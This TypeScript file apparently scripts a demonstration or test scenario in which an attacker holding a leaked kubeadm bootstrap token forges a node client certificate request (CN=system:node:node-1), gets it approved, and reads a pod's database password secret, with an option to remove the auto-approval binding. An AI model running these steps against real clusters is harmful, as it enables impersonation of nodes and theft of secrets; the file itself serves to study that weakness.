import { CLIENT_SIGNER } from '../../kubelet/bootstrap';
import { requestNodeCertificate } from './certificate-request';
import { clientOn } from './client-on';
import { playOf } from './play';
import { readSecret, runPodWithSecret } from './secret-of-pod';

const BINDING = 'kubeadm:node-autoapprove-bootstrap';

export const leakedBootstrapToken = playOf({
  steps: [
    'admin: kubectl create secret generic db … && kubectl apply -f db.yaml',
    'admin: kubeadm token create',
    'attacker: openssl req -new -subj "/O=system:nodes/CN=system:node:node-1" … | kubectl create -f - --token=…',
    'node-2: the kubelet renews its client certificate',
    'attacker: kubectl get csr CSR',
    'attacker: kubectl get secret db -o jsonpath={.data.password}',
  ],
  options: {
    autoApproval: { about: 'whether kubeadm’s binding for it is left in place', type: 'boolean' },
  },
  async play(stage, { options }) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    if (!options.autoApproval) {
      const path = `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${BINDING}`;
      await cluster.admin.request('DELETE', path, { signal });
    }
    const secret = await runPodWithSecret(stage, cluster, 'db', 'node-1');
    const token = await cluster.credentials.bootstrapToken();
    await stage.did('admin', 'kubeadm token create', `${token}, which then stands in a provisioning script`);

    await using thief = clientOn(cluster.attackerHost, cluster, { token });
    const node = { node: 'node-1', signerName: CLIENT_SIGNER, usage: 'client auth' } as const;
    const asked = await requestNodeCertificate(stage, thief, node);
    const ask =
      'openssl req -new -subj "/O=system:nodes/CN=system:node:node-1" … | kubectl create -f - --token=…';
    if (asked.kind === 'failed') return stage.refused('attacker', ask, asked.text);
    await stage.did('attacker', ask, `certificatesigningrequest/${asked.name} created`);

    // Requests are judged and signed one after the other: with this one through, the one before it has been seen.
    await using kubelet = clientOn(cluster.nodes['node-2'], cluster, {
      clientCertificate: cluster.pki.kubeletClients['node-2'],
    });
    const renewal = await requestNodeCertificate(stage, kubelet, { ...node, node: 'node-2' });
    if (renewal.kind === 'failed') throw new Error(`node-2 could not ask for a certificate: ${renewal.text}`);
    await renewal.decided();
    await stage.did('node-2', 'the kubelet renews its client certificate', (await renewal.look()).text);

    const { pair, text } = await asked.look();
    const look = `kubectl get csr ${asked.name}`;
    if (pair === null) await stage.refused('attacker', look, text);
    else await stage.gained('attacker', look, text, 'a client certificate of system:node:node-1');

    await using impostor = clientOn(
      cluster.attackerHost,
      cluster,
      pair === null ? { token } : { clientCertificate: pair },
    );
    const read = await readSecret(impostor, secret.name, signal);
    const get = `kubectl get secret ${secret.name} -o jsonpath={.data.password}`;
    if (secret.isIn(read.text))
      await stage.gained('attacker', get, read.text, 'the secret of a pod on node-1');
    else await stage.refused('attacker', get, read.text);
  },
});
